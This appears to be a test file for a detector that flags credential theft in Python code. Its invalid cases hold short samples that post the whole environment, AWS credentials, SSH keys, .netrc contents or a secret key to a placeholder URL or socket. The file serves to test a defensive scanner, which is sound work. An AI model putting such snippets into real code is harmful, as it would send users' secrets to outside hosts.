import { credentialExfiltration } from '../../../src/detectors/python/credential-exfiltration.js';
import { ruleTester } from '../../helpers/rule-tester.js';
import { PYTHON } from './adapter.js';

ruleTester(credentialExfiltration, PYTHON, {
  valid: [
    { name: 'dataset download and a GPU variable', input: "import os, requests\ngpus = os.environ.get('CUDA_VISIBLE_DEVICES')\nr = requests.get(DATA_URL)\n" },
    { name: 'a token in an auth header', input: "import os, requests\nrequests.get(url, headers={'Authorization': f\"Bearer {os.environ['HF_TOKEN']}\"})\n" },
    {
      name: 'a child process environment',
      input:
        "import os, subprocess, requests\nenv = os.environ.copy()\nenv['X'] = '1'\nr = subprocess.run(cmd, env=env, capture_output=True)\nrequests.post(url, json={'log': r.stdout})\n",
    },
    { name: 'credentials mentioned in a docstring', input: '"""Reads ~/.netrc like curl does."""\nimport requests\nrequests.get(url)\n' },
    { name: 'credentials read, nothing sent', input: "import os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n" },
  ],
  invalid: [
    {
      name: 'the whole environment posted',
      input: 'import os, requests\nrequests.post(URL, data=dict(os.environ))\n',
      errors: [{ severity: 'high', message: 'the whole environment', at: 'requests.post' }],
    },
    {
      name: 'environment through a comprehension',
      input: 'import os, requests\nenv = {k: v for k, v in os.environ.items()}\nrequests.post(URL, json=env)\n',
      errors: [{ severity: 'high' }],
    },
    {
      name: 'AWS credentials through urllib',
      input: "import os, urllib.request\ndata = open(os.path.expanduser('~/.aws/credentials')).read()\nurllib.request.urlopen(URL, data=data.encode())\n",
      errors: [{ severity: 'high', message: 'AWS credentials' }],
    },
    {
      name: 'an SSH key over a raw socket',
      input: "import os, socket\ns = socket.socket()\ns.connect((h, 80))\ns.sendall(open(os.path.join(home, '.ssh', 'id_rsa'), 'rb').read())\n",
      errors: [{ severity: 'high', message: 'SSH keys' }],
    },
    {
      name: 'through a helper function',
      input: "import requests\nfrom pathlib import Path\ndef grab():\n    return (Path.home() / '.netrc').read_text()\nrequests.post(URL, data=grab())\n",
      errors: [{ severity: 'high', message: '.netrc' }],
    },
    {
      name: 'a secret variable in the body',
      input: "import os, requests\nrequests.post(URL, data={'k': os.environ['AWS_SECRET_ACCESS_KEY']})\n",
      errors: [{ severity: 'medium', message: 'AWS_SECRET_ACCESS_KEY' }],
    },
    {
      name: 'credentials read and data sent, no visible flow',
      input: "import requests\nfrom pathlib import Path\nkey = Path.home() / '.ssh' / 'id_rsa'\nupload(key)\nrequests.get(URL)\n",
      errors: [{ severity: 'medium', message: 'in the same file', at: "'.ssh'" }],
    },
  ],
});
